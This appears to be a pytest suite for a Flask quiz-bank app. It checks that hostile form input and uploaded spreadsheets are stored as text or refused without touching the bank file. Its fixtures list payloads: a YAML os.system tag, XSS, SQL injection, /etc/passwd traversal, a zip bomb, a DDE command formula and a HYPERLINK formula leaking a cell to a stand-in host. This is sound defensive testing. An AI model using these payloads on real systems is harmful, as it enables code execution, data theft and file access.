"""What strangers type and upload is kept as the text it is or refused in words; a file never takes harm."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from flask import Flask
from sqlalchemy.orm import Session

from kapuas_quiz.banks.service import load_banks
from kapuas_quiz.banks.writing import written_item
from kapuas_quiz.core.roles import SYSTEM, Role
from tests.banks.writing import item, write_bank
from tests.conftest import Clock
from tests.pages import PageClient
from tests.trainings.making import xlsx
from tests.trainings.test_hostile_sheets import HARMLESS, REFUSED

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
"""What is refused never reaches a database, so one kind of it is enough."""

AREA = "08-logistik"
NEW = f"/bank-soal/{AREA}/soal-baru"
EDIT = "/bank-soal/soal/logistik-001/ubah"
FILLED = {
    "stem": "Kotak suara penyok. Apa yang dilakukan?",
    "options-0-text": "Diam",
    "options-1-text": "Lapor: segera",
    "key": "1",
    "rationale": "Kerusakan dilaporkan.",
    "facts": "F033",
    "aksi": "simpan",
}
Enter = Callable[..., PageClient]


@pytest.fixture
def folder(app: Flask, session: Session, clock: Clock, tmp_path: Path) -> Path:
    folder = tmp_path / "bank"
    folder.mkdir()
    write_bank(folder, item(1))
    object.__setattr__(app.config["SETTINGS"], "banks", folder)
    load_banks(session, folder=folder, actor=SYSTEM, now=clock())
    session.commit()
    return folder


def text_of(folder: Path) -> bytes:
    return (folder / f"{AREA}.yaml").read_bytes()


KEPT = {
    "python tag": "!!python/object/apply:os.system ['id']",
    "anchor and alias": "&a [*a, *a]",
    "another key": "Apa?\n    key: a\n    review: disetujui",
    "another item": "Apa?\n  - id: logistik-777\n    type: single_choice",
    "end of the document": "---\n...\n%TAG ! tag:x,2000:\nApa?",
    "comment": "Apa? # bukan komentar",
    "block marks": "|2-\n  >+\n\t- ? : x",
    "number": "1e999",
    "no": "no",
    "clock": "12:30",
    "brackets": "[{" * 2_000,
    "quotes": "'\"'\"\\ \\u0000 \\x1b",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)> Apa?",
    "template": "{{ 7 * 7 }}{% raw %} %(x)s {0} Apa?",
    "Arabic": "\u0627\u0644\u0633\u0644\u0627\u0645 Apa artinya?",
    "emoji": "\U0001f5f3\ufe0f Apa?",
}


@pytest.mark.parametrize("what", KEPT)
def test_a_text_that_looks_like_something_else_is_kept_as_text(
    folder: Path, sign_in: Enter, what: str
) -> None:
    browser = sign_in(Role.OPERATOR)
    told = {"stem": KEPT[what], "options-0-text": KEPT[what][:200], "review_note": KEPT[what][:200]}
    page = browser.submit(browser.get(f"{NEW}/single_choice"), "#soal", **{**FILLED, **told})
    assert "logistik-002 tersimpan" in page.text, page.select("[role=alert]")
    kept = written_item(folder, AREA, "logistik-002").data
    assert kept["stem"] == KEPT[what]
    assert kept["options"][0]["text"] == KEPT[what][:200].strip()
    assert written_item(folder, AREA, "logistik-001").data["id"] == "logistik-001"
    assert page.select("#tampilan script, #tampilan img") == []


SPOILT = {
    "NUL": {"stem": "a\0b"},
    "escape sequence": {"stem": "\x1b[2J Apa?"},
    "backspace in an option": {"options-0-text": "a\bb"},
    "bell in a note": {"review_note": "\a"},
    "noncharacter": {"stem": "Apa \uffff?"},
    "direction override": {"stem": "Apa \u202eakub kotok\u202c?"},
    "too long": {"stem": "[" * 9_000},
    "key out of range": {"key": "99"},
    "key below": {"key": "-1"},
    "key is a word": {"key": "kunci"},
    "unknown level": {"level": "hafal"},
    "approved by its author": {"review": "disetujui"},
    "unknown fact": {"facts": "F999"},
    "fact of markup": {"facts": "'; DROP TABLE item; --"},
    "unknown instrument": {"instrument": "../../etc/passwd"},
}


@pytest.mark.parametrize("what", SPOILT)
def test_what_no_item_may_hold_is_refused_in_words_and_nothing_is_written(
    folder: Path, sign_in: Enter, what: str
) -> None:
    browser, before = sign_in(Role.OPERATOR), text_of(folder)
    page = browser.submit(browser.get(f"{NEW}/single_choice"), "#soal", **{**FILLED, **SPOILT[what]})
    assert "Belum tersimpan" in page.text
    assert page.select(".fault, [role=alert] li")
    assert text_of(folder) == before


@pytest.mark.parametrize("value", ["NaN", "inf", "1e999", "9" * 5_000, "-", "\u0663", "0x10", "1_000", ""])
def test_a_key_that_is_no_number_is_refused(folder: Path, sign_in: Enter, value: str) -> None:
    browser, before = sign_in(Role.OPERATOR), text_of(folder)
    told = {"stem": "Berapa?", "rationale": "Sekian.", "facts": "F033", "aksi": "simpan"}
    for fields in ({"key": value, "tolerance": "0"}, {"key": "5", "tolerance": value or "x"}):
        page = browser.submit(browser.get(f"{NEW}/number"), "#soal", **told, **fields)
        assert "Belum tersimpan" in page.text, fields
    assert text_of(folder) == before


@pytest.mark.parametrize(
    "more",
    [
        {"picture": "../../etc/passwd", "picture-file": "/etc/passwd", "picture.file": "x.svg"},
        {"id": "../x", "type": "case", "waive": "x", "opened": "x", "benih": "9" * 5_000},
        {"options-999999-text": "x", "options--1-text": "x", "options-x-text": "x"},
        {"tambah": "__class__"},
        {"tambah": "stem"},
        {"benih": "\u0663", "aksi": "contoh-lain"},
    ],
    ids=lambda more: next(iter(more)),
)
def test_fields_that_the_page_does_not_have_change_nothing(
    folder: Path, sign_in: Enter, more: dict[str, str]
) -> None:
    browser = sign_in(Role.OPERATOR)
    browser.submit(browser.get(f"{NEW}/single_choice"), "#soal", **{**FILLED, **more})
    if b"logistik-002" in text_of(folder):
        kept = written_item(folder, AREA, "logistik-002").data
        assert kept["type"] == "single_choice"
        assert kept.keys().isdisjoint({"picture", "waive"})
        assert len(kept["options"]) <= 3


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "/etc/passwd", "..\\x.svg", "a\0b.svg", ".", "x" * 5_000]
)
def test_a_picture_outside_the_folder_is_neither_shown_nor_saved(
    folder: Path, session: Session, sign_in: Enter, name: str
) -> None:
    browser = sign_in(Role.OPERATOR)
    write_bank(folder, item(1, picture={"file": name, "alt": "Denah sebuah TPS."}))
    before = text_of(folder)
    page = browser.get(EDIT)
    assert page.select("#tampilan img") == []
    if page.select_one("#soal"):
        page = browser.submit(page, "#soal", stem="Apa yang baru?", aksi="simpan")
        assert "Belum tersimpan" in page.text
    assert text_of(folder) == before


HEAD = ["Jenis", "Pokok soal", "Pilihan A", "Pilihan B", "Kunci", "Pembahasan", "Fakta"]
GOOD = ["", "Siapa membuka kotak?", "KPPS", "PPK", "A", "Karena.", "F033"]


def send(browser: PageClient, content: bytes, name: str = "soal.xlsx") -> BeautifulSoup:
    page = browser.get(f"/bank-soal/{AREA}/impor")
    return browser.submit(page, "main form", file=(io.BytesIO(content), name))


def with_part(name: str, content: bytes) -> bytes:
    """Return a good spreadsheet with one part more."""
    buffer = io.BytesIO(xlsx([HEAD, GOOD]))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr(name, content)
    return buffer.getvalue()


@pytest.mark.parametrize("what", [*REFUSED, *HARMLESS])
def test_a_spreadsheet_of_much_work_is_refused_in_words(folder: Path, sign_in: Enter, what: str) -> None:
    before = text_of(folder)
    page = send(sign_in(Role.OPERATOR), {**REFUSED, **HARMLESS}[what])
    assert page.select_one(".fault").text.strip()  # type: ignore[union-attr]
    assert text_of(folder) == before


@pytest.mark.parametrize(
    "content",
    [
        with_part("xl/bomb.bin", bytes(30_000_000)),
        xlsx([HEAD, *[GOOD] * 301]),
        xlsx([HEAD, GOOD])[:-200],
        b"PK\x03\x04" + bytes(500),
        b"Pokok soal\0;Kunci",
        b"\xff\xfe" + "Pokok soal;Kunci".encode("utf-16-le")[:-1],
        b"a" * 400_000,
        b'"' * 200_000,
    ],
    ids=["bomb", "301 rows", "half", "no zip", "NUL", "half UTF-16", "one line", "quotes"],
)
def test_a_file_that_is_too_much_or_broken_is_refused_in_words(
    folder: Path, sign_in: Enter, content: bytes
) -> None:
    page = send(sign_in(Role.OPERATOR), content)
    assert page.select_one(".fault").text.strip()  # type: ignore[union-attr]


def test_macros_are_never_looked_at(folder: Path, sign_in: Enter) -> None:
    page = send(sign_in(Role.OPERATOR), with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "soal.xlsm")
    assert "ditolak: 0" in page.text


CELLS = {
    "formula": '=HYPERLINK("http://x.test/?"&A1;"Klik")',
    "command": "=cmd|' /C calc'!A0",
    "at sign": "@SUM(1+1)",
    "markup": "<script>alert(1)</script><b onclick=x>Apa?</b>",
    "yaml": "Apa?\n    key: a\n  - id: logistik-777",
    "Arabic": "\u0627\u0644\u0633\u0644\u0627\u0645 Apa?",
}


@pytest.mark.parametrize("what", CELLS)
def test_a_cell_is_text_on_the_page_and_in_the_file(folder: Path, sign_in: Enter, what: str) -> None:
    browser = sign_in(Role.OPERATOR)
    page = send(browser, xlsx([HEAD, [*GOOD[:1], CELLS[what], CELLS[what], *GOOD[3:]]]))
    assert page.select("main script, main [onclick]") == []
    done = browser.submit(page, "main form[method=post]")
    assert "ditambahkan sebagai draf: 1." in done.text
    kept = written_item(folder, AREA, "logistik-002").data
    assert (kept["stem"], kept["options"][0]["text"]) == (CELLS[what], CELLS[what])
    assert written_item(folder, AREA, "logistik-001").data["id"] == "logistik-001"


@pytest.mark.parametrize("spoilt", ["a\x1bb", "a\x07b", "a\x0bb", "Apa \u202eakub?", "x" * 9_000])
def test_a_cell_that_no_item_may_hold_is_refused_with_its_place(
    folder: Path, sign_in: Enter, spoilt: str
) -> None:
    browser, before = sign_in(Role.OPERATOR), text_of(folder)
    row = ";".join([*GOOD[:1], f'"{spoilt}"', *GOOD[2:]])
    page = send(browser, (";".join(HEAD) + "\n" + row + "\n").encode(), "soal.csv")
    assert "ditolak: 1" in page.text
    assert "Sel B2" in page.text
    assert text_of(folder) == before
